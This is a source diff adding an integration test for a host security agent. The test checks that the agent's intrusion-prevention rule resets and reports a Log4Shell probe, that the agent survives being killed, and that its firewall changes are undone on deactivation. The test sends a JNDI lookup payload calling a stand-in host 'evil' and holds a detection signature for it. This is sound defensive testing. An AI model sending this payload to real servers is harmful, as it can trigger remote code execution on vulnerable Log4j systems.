@@ -1,0 +1,182 @@
+import { type ChildProcess, spawn } from 'node:child_process';
+import { existsSync, readFileSync, writeFileSync } from 'node:fs';
+import net from 'node:net';
+import { join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
+import type { HostConfig } from '../../shared/domain/policy/host-config.ts';
+import { startTestPlane, TENANT, type TestPlane, TOKEN } from '../support/agent-plane.ts';
+import { skipReason } from './rig/requirements.ts';
+import { get, WEB } from './rig/rules.ts';
+import type { Exchange } from './rig/traffic-operations.ts';
+import { CLIENT, createWorld, SERVER, type World } from './rig/world.ts';
+
+const CLI = fileURLToPath(new URL('../../agent/src/cli/main.ts', import.meta.url));
+const AGENT = [process.execPath, '--no-warnings', CLI];
+
+const config: HostConfig = {
+  format: 1,
+  firewall: {
+    state: 'on',
+    rules: [
+      {
+        ID: 10_000_001,
+        name: 'No echo',
+        action: 'deny',
+        priority: '0',
+        direction: 'incoming',
+        protocol: 'tcp',
+        destinationPortType: 'multiple',
+        destinationPortMultiple: ['7007'],
+      },
+    ],
+  },
+  intrusionPrevention: {
+    state: 'prevent',
+    engineMode: 'inline',
+    onFailure: 'open',
+    rules: [
+      {
+        ID: 1,
+        name: 'Log4Shell',
+        severity: 'critical',
+        applicationTypeID: 1,
+        signatures: [
+          'drop http any any -> any any (msg:"x"; content:"${jndi|3a|"; http.uri; sid:1000001; rev:1;)',
+        ],
+        action: 'reset',
+        detectOnly: false,
+        protocol: 'tcp',
+        ports: [String(WEB)],
+      },
+    ],
+  },
+};
+
+describe.skipIf(skipReason() !== null)('the agent as its administrator has it', () => {
+  let world: World;
+  let plane: TestPlane;
+  let relay: net.Server;
+  let agent: ChildProcess | undefined;
+  let state: string;
+
+  const command = (...words: string[]): Promise<string> =>
+    world.server.run(...AGENT, ...words, '--state', state);
+  const status = async () => JSON.parse(await command('status', '--json'));
+  const ruleset = async (): Promise<unknown> => {
+    const { nftables } = JSON.parse(await world.server.run('nft', '-j', 'list', 'ruleset'));
+    // Handles and counters run on; what matters is what stands there.
+    return JSON.parse(JSON.stringify(nftables), (name, value) =>
+      name === 'handle' || name === 'packets' || name === 'bytes' || name === 'metainfo' ? undefined : value,
+    );
+  };
+  const start = (): void => {
+    const inside = ['-t', String(world.server.pid), '-U', '-n', '--preserve-credentials'];
+    const log = join(world.dir, 'agent.log');
+    agent = spawn('nsenter', [...inside, ...AGENT, 'run', '--state', state], {
+      stdio: ['ignore', 'ignore', 'pipe'],
+    });
+    agent.stderr?.on('data', (text) => writeFileSync(log, text, { flag: 'a' }));
+  };
+  const end = async (signal: NodeJS.Signals): Promise<void> => {
+    const ending = agent;
+    agent = undefined;
+    if (!ending || ending.exitCode !== null) return;
+    const ended = new Promise((done) => ending.once('exit', done));
+    ending.kill(signal);
+    await ended;
+  };
+  const protecting = () =>
+    vi.waitFor(
+      async () =>
+        expect(await status()).toMatchObject({
+          applied: { sequence: 1 },
+          firewall: { state: 'on' },
+          intrusionPrevention: { state: 'prevent' },
+          inspection: { bound: true },
+        }),
+      { timeout: 20_000, interval: 300 },
+    );
+  const attack = () =>
+    world.client.call<Exchange>('exchange', {
+      host: SERVER,
+      port: WEB,
+      parts: [get('/?x=${jndi:ldap://evil/a}')],
+      until: 'HTTP/1.1',
+      timeoutMs: 2000,
+    });
+
+  beforeEach(async () => {
+    [world, plane] = await Promise.all([createWorld(), startTestPlane()]);
+    state = join(world.dir, 'agent');
+    const socket = join(world.dir, 'plane.sock');
+    relay = net.createServer((from) => {
+      const to = net.connect(plane.port, '127.0.0.1');
+      from.pipe(to).pipe(from);
+      from.on('error', () => to.destroy());
+      to.on('error', () => from.destroy());
+    });
+    await new Promise<void>((done) => relay.listen(socket, done));
+    const ca = join(world.dir, 'ca.pem');
+    writeFileSync(ca, plane.ca);
+    await world.server.call('startWeb', { port: WEB });
+    await world.server.run(
+      'nft',
+      `table ip nat { chain post { type nat hook postrouting priority 100; oifname "none" masquerade; }; };
+       table inet mine { chain in { type filter hook input priority 0; policy accept; ip saddr 10.9.9.9 drop; }; }`,
+    );
+    const where = ['--url', `https://localhost:${plane.port}`, '--ca', ca, '--socket', socket];
+    const said = await command('activate', ...where, '--tenant', TENANT, '--token', TOKEN);
+    expect(said).toContain('Activated as computer 1');
+    await plane.offer(config);
+  });
+  afterEach(async () => {
+    await end('SIGKILL');
+    relay.close();
+    await plane.close();
+    await world.end();
+  });
+
+  it('protects, survives its own death, stops in order, and leaves nothing behind', async () => {
+    const before = await ruleset();
+    start();
+    await protecting();
+    expect((await attack()).end).not.toBe('enough');
+    await vi.waitFor(
+      () =>
+        expect(plane.events()).toContainEqual(
+          expect.objectContaining({ ruleID: 1, action: 'reset', sourceIP: CLIENT }),
+        ),
+      { timeout: 15_000 },
+    );
+
+    await end('SIGKILL');
+    expect(await world.server.run('nft', 'list', 'tables')).toContain('inet mvp');
+    start();
+    await protecting();
+    await vi.waitFor(() => expect(plane.events()).toContainEqual(expect.objectContaining({ number: 3700 })), {
+      timeout: 10_000,
+    });
+
+    await end('SIGTERM');
+    expect(await world.server.run('nft', 'list', 'tables')).toContain('inet mvp');
+    expect((await attack()).end).toBe('enough');
+
+    expect(await command('deactivate')).toContain('its own firewall is back as it was');
+    expect(await ruleset()).toEqual(before);
+    expect(plane.hosts.size).toBe(0);
+    expect(await status()).toMatchObject({ activated: false });
+    expect(existsSync(join(state, 'spool'))).toBe(false);
+  });
+
+  it('is deactivated while it runs, with the plane gone', async () => {
+    const before = await ruleset();
+    start();
+    await protecting();
+    await plane.goDown();
+    expect(await command('deactivate')).toContain('Remove computer 1 there');
+    expect(await ruleset()).toEqual(before);
+    await end('SIGTERM');
+    expect(readFileSync(join(world.dir, 'agent.log'), 'utf8')).toContain('not activated');
+  });
+});
